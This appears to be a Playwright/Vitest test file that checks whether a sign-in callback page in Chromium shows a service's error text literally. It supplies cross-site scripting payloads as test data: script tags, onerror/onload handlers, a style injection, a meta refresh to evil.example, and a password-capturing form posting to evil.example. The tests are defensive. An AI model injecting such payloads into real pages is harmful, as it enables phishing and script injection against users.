// The pages of the callback in a real Chromium: what a service says there stays text.

import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { hasChromium, inChromium, openBrowser, visit } from '../event-store/chromium.ts';
import { callbackOf, honestAnswer, lyingServer } from './lying-server.ts';
import { flowFor, startOf } from './test-sign-in-flow.ts';

let browser: Browser | undefined;

beforeAll(async () => {
  browser = hasChromium ? await openBrowser() : undefined;
});

afterAll(() => browser?.close());

async function shown(query: (honest: Record<string, string>) => Record<string, string>) {
  const server = await lyingServer();
  const { flow } = flowFor(server);
  const asked = await startOf(flow);
  server.lies['/token'] = () => server.tokens(asked.searchParams.get('nonce'));
  if (browser === undefined) throw new Error('There is no Chromium.');
  const address = callbackOf(asked, query(honestAnswer(server, asked)));
  return visit(browser, address.href);
}

describe.skipIf(!hasChromium)(inChromium, () => {
  test('a person who signed in reads so, on a page with its own style alone', async () => {
    const { page, problems, requests } = await shown((honest) => honest);
    expect(await page.locator('h1').textContent()).toBe('Signed in');
    expect(await page.title()).toBe('Signed in - Fovea');
    expect(await page.locator('main p').allTextContents()).toEqual([
      'You are signed in. You can close this window.',
    ]);
    expect(await page.evaluate('getComputedStyle(document.body).maxWidth')).toMatch(/^\d+px$/);
    expect(problems).toEqual([]);
    expect(requests.filter((path) => !path.startsWith('/favicon.ico'))).toHaveLength(1);
    await page.context().close();
  });

  test.each([
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(2)>',
    '</p></main><style>h1{display:none}</style><h1>All is well</h1>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<form action="https://evil.example/"><input name=password><button>Go on</button></form>',
    '&lt;script&gt;alert(3)&lt;/script&gt;',
    '<svg onload=alert(4)>',
  ])('%s is shown as it is written', async (words) => {
    const { page, problems } = await shown(({ state = '', iss = '' }) => ({
      error: 'server_error',
      error_description: words,
      state,
      iss,
    }));
    expect(await page.locator('main p').last().textContent()).toBe(
      `The service says: server_error: ${words}`,
    );
    expect(await page.locator('h1').allTextContents()).toEqual(['Not signed in']);
    expect(await page.locator('script, img, form, svg, meta[http-equiv]').count()).toBe(0);
    expect(new URL(page.url()).hostname).toBe('127.0.0.1');
    // The status of the page itself, which Chromium reports.
    expect(problems.filter((problem) => !problem.includes('400 (Bad Request)'))).toEqual([]);
    await page.context().close();
  });
});
